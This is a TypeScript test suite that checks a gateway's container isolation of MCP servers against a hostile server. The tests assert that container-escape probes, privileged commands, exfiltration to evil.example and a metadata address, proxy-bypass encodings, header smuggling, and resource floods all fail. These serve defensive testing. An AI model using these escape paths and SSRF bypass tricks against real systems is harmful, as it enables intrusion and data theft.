/**
 * A hostile server inside its container, through the gateway: each way out is tried from inside, fails, and is told.
 */
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { runCommand } from '../../main/commands/local-client.ts';
import { api } from '../host/container-engine.ts';
import { readiness, until } from '../host/gateway.ts';
import { EVIL, GOOD, METADATA } from '../host/world.mjs';
import { type Contained, contained, hostile, ofOurs, startContained, visits } from './contained.ts';
import { engine } from './engine.ts';

const { host, absent } = engine();
const PLANTED = 'planted-7f3a-secret';

describe('a hostile server', () => {
  let gate: Contained;
  let files: string;

  beforeEach(({ skip }) => {
    if (host === null) skip(absent);
  });
  beforeAll(async () => {
    if (host === null) return;
    files = mkdtempSync(join(tmpdir(), 'ghf-'));
    for (const folder of ['mine', 'out', 'yours']) mkdirSync(join(files, folder), { mode: 0o777 });
    chmodSync(join(files, 'out'), 0o777);
    writeFileSync(join(files, 'mine/a.txt'), 'mine');
    writeFileSync(join(files, 'yours/b.txt'), 'yours');
    const mounts = [`${join(files, 'mine')}:/mine`, `${join(files, 'out')}:/out:rw`, join(hostile, '..')];
    const env = { OWN: 'own value', TOKEN: '${env:GH_PLANTED}' };
    const limits = { memory: '128m', scratch: '32m', pids: 40 };
    gate = await startContained(
      host,
      {
        mcpServers: {
          none: contained(hostile, { mounts, ...limits }, { env }),
          listed: contained(hostile, { allow: ['good.example', '*.good.example', 'db.example:5432'] }),
          open: contained(hostile, { network: 'bridge' }),
          other: contained(hostile, { network: 'bridge' }),
          learner: contained(hostile, { network: 'learn' }),
        },
      },
      { GH_PLANTED: PLANTED, GH_UNRELATED: 'unrelated-secret' },
    );
  }, 120_000);
  afterAll(async () => {
    await gate?.close();
    if (files !== undefined) rmSync(files, { recursive: true, force: true });
  });

  it('runs, each server in a container of its own', async () => {
    const { servers } = await readiness(gate.gateway.base);
    expect(
      Object.entries(servers).map(([name, { state, problem }]) => [name, state, problem ?? null]),
    ).toEqual(['none', 'listed', 'open', 'other', 'learner'].map((name) => [name, 'ready', null]));
  });

  it.each([
    '/x',
    '/etc/x',
    '/usr/x',
    '/mine/x',
    '/proc/sys/kernel/core_pattern',
    '/sys/x',
    '/var/cache/gatehouse/x',
  ])('cannot write to %s', async (path) => {
    expect(await gate.attempt('none', 'write', path)).toMatch(/^no: (EROFS|EACCES|ENOENT|EPERM)/);
  });

  it('writes only to its scratch space and where its owner lets it', async () => {
    for (const path of ['/tmp/of-its-own', '/home/gatehouse/of-its-own', '/out/x']) {
      expect(await gate.attempt('none', 'write', path)).toBe('yes: written');
    }
    expect(readFileSync(join(files, 'out/x'), 'utf8')).toBe('x');
  });

  it('reads only what is mounted', async () => {
    expect(await gate.attempt('none', 'read', '/mine/a.txt')).toBe('yes: mine');
    for (const path of [
      join(files, 'yours/b.txt'),
      '/mine/../yours',
      gate.gateway.dataDir,
      '/root',
      '/home/ada',
    ]) {
      expect(await gate.attempt('none', 'read', path)).toMatch(/^no: (ENOENT|EACCES)/);
    }
    expect(await gate.attempt('listed', 'read', '/mine')).toMatch(/^no: ENOENT/);
  });

  it('has no rights of a root user', async () => {
    const status = await gate.attempt('none', 'status');
    expect(status).toMatch(/CapEff:\s+0+\n/);
    expect(status).toMatch(/CapBnd:\s+0+\n/);
    expect(status).toMatch(/NoNewPrivs:\s+1\n/);
    expect(status).toMatch(/Seccomp:\s+2\n/);
    expect(JSON.parse((await gate.attempt('none', 'whoami')).slice(5))).toMatchObject({ uid: 65_532 });
    const forbidden = [
      ['mount', '-t', 'tmpfs', 'none', '/tmp'],
      ['mknod', '/tmp/disk', 'b', '8', '0'],
      ['unshare', '-r', 'true'],
      ['chroot', '/', 'true'],
      ['hostname', 'x'],
      ['ip', 'addr', 'add', '10.9.9.9/24', 'dev', 'lo'],
      ['insmod', '/tmp/of-its-own'],
      ['reboot', '-f'],
    ];
    for (const words of forbidden) expect(await gate.attempt('none', 'run', ...words)).toMatch(/^no:/);
  });

  it('finds none of the known ways out of a misconfigured container', async () => {
    const ways = [
      '/var/run/docker.sock',
      '/run/docker.sock',
      '/run/containerd/containerd.sock',
      '/dev/mem',
      '/dev/sda',
    ];
    for (const path of [...ways, '/dev/vda', '/dev/kmsg', '/host']) {
      expect(await gate.attempt('none', 'exists', path)).toMatch(/^no: ENOENT/);
    }
    for (const path of ['/proc/sysrq-trigger', '/sys/fs/cgroup/release_agent', '/proc/sys/kernel/modprobe']) {
      expect(await gate.attempt('none', 'write', path)).toMatch(/^no:/);
    }
    expect(await gate.attempt('none', 'read', '/proc/kcore')).toMatch(/^(no:|yes: $)/);
  });

  it('sees no process but its own, and nothing of the environment of Gatehouse', async () => {
    const processes = (await gate.attempt('none', 'processes')).slice(5).split(' ');
    expect(processes.length).toBeLessThan(5);
    const seen = (await gate.attempt('none', 'env')) + (await gate.attempt('none', 'parent'));
    expect(seen).toContain('own value');
    expect(seen).not.toContain('unrelated-secret');
    expect(seen).not.toContain('DOCKER_HOST');
    expect(seen).not.toContain(gate.gateway.token);
  });

  it('gets its secrets, and nobody else sees them at the engine or on a command line', async () => {
    if (host === null) return;
    expect(await gate.attempt('none', 'env')).toContain(PLANTED);
    const { containers } = await ofOurs(host);
    const told = await Promise.all([
      ...containers.map(({ Id }) => api(host.socket, 'GET', `/containers/${Id}/json`)),
      ...containers.map(({ Id }) =>
        api(host.socket, 'GET', `/containers/${Id}/top?ps_args=auxww`).catch(() => ''),
      ),
      api(host.socket, 'GET', '/containers/json?all=1'),
      api(host.socket, 'GET', `/events?since=0&until=${Math.floor(Date.now() / 1000)}`),
      api(host.socket, 'GET', '/info'),
    ]);
    const [inspected, tops] = [
      told.slice(0, containers.length),
      told.slice(containers.length, 2 * containers.length),
    ];
    expect(inspected.length).toBeGreaterThan(4);
    expect(inspected.join('')).not.toContain(PLANTED);
    expect(inspected.join('')).not.toContain('own value');
    expect(told.slice(2 * containers.length).join('')).not.toContain(PLANTED);
    expect(tops.join('')).not.toContain(PLANTED);
    expect(commandLines()).not.toContain(PLANTED);
    expect(gate.gateway.log()).not.toContain(PLANTED);
    expect(readFileSync(join(gate.gateway.dataDir, 'logs/none.log'), 'utf8')).not.toContain(PLANTED);
  });

  it('without a network reaches nothing at all', async () => {
    expect(Object.keys(JSON.parse((await gate.attempt('none', 'interfaces')).slice(5)))).toEqual(['lo']);
    for (const to of [GOOD, EVIL, METADATA, '172.17.0.1']) {
      expect(await gate.attempt('none', 'connect', to, '80')).toMatch(/^no: ENETUNREACH/);
    }
    expect(await gate.attempt('none', 'name', 'good.example')).toMatch(/^no:/);
  });

  it('with an allow-list reaches its hosts, by the proxy and as if there were none', async () => {
    expect(await gate.attempt('listed', 'get', 'http://good.example/a', 'proxy')).toBe(
      `yes: 200 world at ${GOOD}`,
    );
    expect(await gate.attempt('listed', 'get', 'http://good.example/b')).toBe(`yes: 200 world at ${GOOD}`);
    expect(await gate.attempt('listed', 'tls', 'other.good.example')).toBe(
      'yes: secure world for other.good.example',
    );
  });

  it('with an allow-list reaches nothing else: not this computer, not metadata, not the internet, not by name', async () => {
    if (host === null) return;
    const before = visits(host).length;
    const own = JSON.parse((await gate.attempt('listed', 'interfaces')).slice(5)) as Record<
      string,
      { address: string }[]
    >;
    const address = own.eth0?.[0]?.address ?? '';
    const gateway = address.replace(/\d+$/, '1');
    const proxy = address.replace(/\d+$/, '2');
    expect(proxy).not.toBe(address);
    for (const [to, port] of [
      ...[GOOD, EVIL, METADATA].map((ip) => [ip, '80'] as const),
      [gateway, '80'],
      [gateway, '8765'],
      [proxy, '8765'],
    ] as const) {
      expect(await gate.attempt('listed', 'connect', to, port), `${to}:${port}`).toMatch(/^no:/);
    }
    for (const url of [
      ...[
        'http://evil.example/',
        'http://metadata.evil.example/',
        `http://${METADATA}/latest`,
        'http://127.0.0.1/',
      ],
      ...[
        `http://${gateway}:8765/`,
        'http://rebind.good.example/',
        'http://localhost/',
        'http://good.example:8765/',
      ],
    ]) {
      expect(await gate.attempt('listed', 'get', url, 'proxy'), url).toMatch(/^yes: 403/);
    }
    expect(await gate.attempt('listed', 'tls', 'good.example', 'evil.example')).toMatch(/^no:/);
    expect(await gate.attempt('listed', 'name', 'secret-data.evil.example')).toMatch(/^no: (ENOTFOUND|EAI)/);
    const seen = visits(host).slice(before);
    expect(seen).not.toContain('secret-data');
    expect(seen).not.toMatch(/"(http|host|tls)"/);
  });

  it('cannot trick the proxy: other ports, addresses, other ways to write them, two hosts at once, chains, floods', async () => {
    if (host === null) return;
    const before = visits(host).length;
    const own = JSON.parse((await gate.attempt('listed', 'interfaces')).slice(5)) as Record<
      string,
      { address: string }[]
    >;
    const proxy = (own.eth0?.[0]?.address ?? '').replace(/\d+$/, '2');
    const connectTo = (place: string): string => `CONNECT ${place} HTTP/1.1\nHost: good.example\n\n`;
    const tricks = [
      ...[
        'good.example:22',
        'good.example:8765',
        `${EVIL}:443`,
        `${METADATA}:80`,
        '[::1]:443',
        '[::ffff:a9fe:a9fe]:80',
      ],
      ...[
        '0x7f000001:80',
        '2130706433:80',
        '0177.0.0.1:80',
        '127.1:80',
        'evil.example:443',
        'good.example.evil.example:443',
      ],
      ...[
        'good.example@evil.example:443',
        'good.example#evil.example:443',
        `${proxy}:3128`,
        'rebind.good.example:443',
      ],
    ].map(connectTo);
    for (const text of [
      ...tricks,
      'GET http://good.example/ HTTP/1.1\nHost: good.example\nHost: evil.example\n\n',
      'GET http://evil.example/ HTTP/1.1\nHost: good.example\n\n',
      `GET http://${proxy}:3128/ HTTP/1.1\nHost: good.example\n\n`,
      'GET / HTTP/1.1\nHost: good.example\nX: {70000}\n\n',
      'GET http://good.example/ HTTP/1.1\nX: {70000}',
      'CONNECT {40000}:443 HTTP/1.1\n\n',
    ]) {
      const said = await gate.attempt('listed', 'raw', text);
      expect(said, text.slice(0, 80)).toMatch(/^no:|^yes: HTTP\/1\.1 (4|5)/);
    }
    // Named twice, it is told apart by what the proxy connects to: never the host that is not on the list.
    await gate.attempt('listed', 'raw', 'GET http://good.example/both HTTP/1.1\nHost: evil.example\n\n');
    const seen = visits(host).slice(before);
    expect(seen).not.toContain(`"at":"${EVIL}"`);
    expect(seen).not.toMatch(/"what":"host"|"at":"(127|169|172|10)\./);
    // The header says then what was connected to.
    expect(seen).toContain(`"host":"good.example","url":"/both"`);
    expect(await gate.attempt('listed', 'get', 'http://good.example/after', 'proxy')).toMatch(/^yes: 200/);
  });

  it('is told of: the page of the server shows what it reached and what it was refused', async () => {
    const page = () => runCommand(gate.gateway.dataDir, 'server.containment', { server: 'listed' });
    const expected = [
      ['good.example', 80, null],
      ['other.good.example', 443, null],
      ['evil.example', 80, 'not-listed'],
      ['good.example', 22, 'not-listed'],
      [METADATA, 80, 'not-listed'],
      ['rebind.good.example', 80, 'private'],
      ['secret-data.evil.example', null, 'not-listed'],
    ] as const;
    const found = async () => {
      const all = (await page()).hosts.map(({ host: name, port, refused }) => [name, port, refused]);
      return expected.map((one) => all.filter(([name, port]) => name === one[0] && port === one[1]));
    };
    // What the proxy tells is on its way for a moment.
    await expect.poll(found, { timeout: 10_000 }).toEqual(expected.map((one) => [one]));
    const { hosts, networkKind, allowed, files } = await page();
    expect({ networkKind, allowed, files }).toEqual({
      networkKind: 'allowlist',
      allowed: ['good.example', '*.good.example', 'db.example:5432'],
      files: expect.stringMatching(/^reads .*servers$/),
    });
    expect(hosts.length).toBeLessThanOrEqual(200);
  });

  it('with all of the network reaches hosts, but no other contained server', async () => {
    expect(await gate.attempt('open', 'get', `http://${GOOD}/`)).toBe(`yes: 200 world at ${GOOD}`);
    const other = JSON.parse((await gate.attempt('other', 'interfaces')).slice(5)) as Record<
      string,
      { address: string }[]
    >;
    expect(await gate.attempt('open', 'connect', other.eth0?.[0]?.address ?? '', '80')).toMatch(
      /^no: timeout|^no: {2}timeout|^no: EHOSTUNREACH/,
    );
  });

  it('while it learns reaches what is public, which is noted, and nothing private', async () => {
    expect(await gate.attempt('learner', 'get', 'http://evil.example/', 'proxy')).toMatch(/^yes: 200/);
    expect(await gate.attempt('learner', 'get', 'http://metadata.evil.example/', 'proxy')).toMatch(
      /^yes: 403/,
    );
  });

  it('is held to what it was seen to reach, by one command, and to nothing it has not asked for', async () => {
    const { dataDir, base } = gate.gateway;
    const learner = () => runCommand(dataDir, 'server.containment', { server: 'learner' });
    // What the proxy tells is on its way for a moment.
    await expect
      .poll(async () => (await learner()).hosts, { timeout: 10_000 })
      .toContainEqual(expect.objectContaining({ host: 'metadata.evil.example', refused: 'private' }));
    const before = await learner();
    expect(before).toMatchObject({ networkKind: 'learn', proposal: ['evil.example'] });
    await expect(
      runCommand(dataDir, 'server.allowHosts', { server: 'learner', hosts: ['never-asked.example'] }),
    ).rejects.toMatchObject({ code: 'isolation.not_asked' });
    await runCommand(dataDir, 'server.allowHosts', { server: 'learner', hosts: before.proposal });
    await until(
      async () =>
        (await runCommand(dataDir, 'server.containment', { server: 'learner' })).networkKind ===
          'allowlist' &&
        (await readiness(base)).servers.learner?.state === 'ready' &&
        (await gate.attempt('learner', 'get', 'http://evil.example/', 'proxy')).startsWith('yes: 200'),
      'it runs again, and reaches its host',
      20_000,
    );
    expect(await gate.attempt('learner', 'get', 'http://good.example/', 'proxy')).toMatch(/^yes: 403/);
  });

  it('cannot fork without end, and others go on', async () => {
    const [made, refused] = (await gate.attempt('none', 'forks', '500')).replace('yes: ', '').split(' ');
    expect(Number(made)).toBeLessThan(40);
    expect(refused).toBe('refused');
    expect(await gate.attempt('listed', 'whoami')).toMatch(/^yes/);
  });

  it('cannot fill the disk', async () => {
    for (const place of ['/tmp/fill', '/home/gatehouse/fill', '/dev/shm/fill']) {
      expect(await gate.attempt('none', 'disk', place, '400'), place).toMatch(/^no: ENOSPC/);
      await gate.attempt('none', 'run', 'rm', '-rf', place);
    }
  });

  it('cannot take more memory than it has: it is ended, that is told, and it starts again', async () => {
    expect(await gate.attempt('none', 'memory', '600')).toMatch(/^error: .*memory/s);
    await until(
      async () => (await readiness(gate.gateway.base)).servers.none?.state === 'ready',
      'back',
      30_000,
    );
  });
});

/** Everything that `ps` could show to anybody. */
function commandLines(): string {
  return readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .map((pid) => {
      try {
        return readFileSync(`/proc/${pid}/cmdline`, 'latin1');
      } catch {
        return '';
      }
    })
    .join('\n');
}
